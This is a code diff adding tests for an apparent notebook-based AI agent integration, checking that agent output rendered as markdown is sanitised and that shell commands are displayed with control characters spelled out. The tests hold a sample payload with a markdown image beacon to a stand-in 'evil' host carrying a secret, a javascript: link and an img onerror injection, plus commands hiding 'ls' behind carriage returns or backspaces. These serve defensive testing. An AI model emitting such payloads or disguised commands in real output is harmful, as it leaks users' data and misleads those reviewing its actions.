@@ -133,6 +133,65 @@ def test_the_result_of_a_prompt_shows_as_markdown_without_streaming(tmp_path: Pa
     assert result._repr_markdown_() == "Fine."
 
 
+HOSTILE = "see ![p](http://evil/?q=secret) or [docs](javascript:alert(1)) <img src=x onerror=y>"
+
+
+def test_what_a_result_shows_is_text() -> None:
+    """Z-02: a value of a cell is trusted output."""
+    with pi_nb.agent(model=ScriptedModel([reply(HOSTILE), reply(error=HOSTILE)])) as agent:
+        good, bad = agent.prompt_sync("a"), agent.prompt_sync("b")
+
+    for shown in (good._repr_markdown_(), bad._repr_markdown_()):
+        assert "<img" not in shown
+        assert "](javascript" not in shown
+        assert "![p](http" not in shown.replace("\\![p](http", "")
+
+
+def test_a_command_is_shown_as_it_runs_and_not_as_a_terminal_would_draw_it() -> None:
+    """A carriage return, a backspace, an escape, an override: each is spelled out."""
+    for command in ("touch x #\rls", "touch x #\b\bls", "a; \x1b]0;x", "a\u202eb", "a\u200bb"):
+        shown = title("bash", {"command": command})
+        assert "touch x" in shown or "a" in shown
+        assert not set("\r\b\x1b\u202e\u200b") & set(shown)
+        assert "\\" in shown
+
+
+@pytest.mark.slow
+def test_what_a_server_says_is_no_markdown_in_the_cell(kernel: LiveKernel) -> None:
+    kernel.good(
+        f"model = ScriptedModel([reply('x', stop_reason='length')], id={HOSTILE!r})\n"
+        "agent = pi_nb.agent(model=model)"
+    )
+
+    cell = kernel.good("%%agent\ngo")
+
+    assert "![p](" not in cell.markdown
+    assert "](javascript" not in cell.markdown
+    assert "<img" not in cell.markdown
+
+
+@pytest.mark.slow
+def test_many_calls_do_not_send_the_record_again_for_each(kernel: LiveKernel) -> None:
+    kernel.good(
+        "calls = [call('bash', command='seq 2000') for _ in range(150)]\n"
+        "agent = pi_nb.agent(approve='allow', model=ScriptedModel([reply('x', *calls), 'Done.']))\n"
+        "sent = []\n"
+        "publish = get_ipython().display_pub.publish\n"
+        "def counted(data, *a, **k):\n"
+        "    sent.append(len(data.get('text/markdown', '')))\n"
+        "    return publish(data, *a, **k)\n"
+        "get_ipython().display_pub.publish = counted"
+    )
+    try:
+        cell = kernel.run("%%agent\ngo", seconds=90)
+    finally:
+        kernel.good("get_ipython().display_pub.publish = publish")
+
+    assert cell.ok
+    size = len(cell.markdown)
+    assert int(kernel.good("print(sum(sent))").stdout) < 20 * size
+
+
 @pytest.mark.slow
 def test_what_is_sent_while_streaming_stays_within_twenty_times_the_answer(
     kernel: LiveKernel,
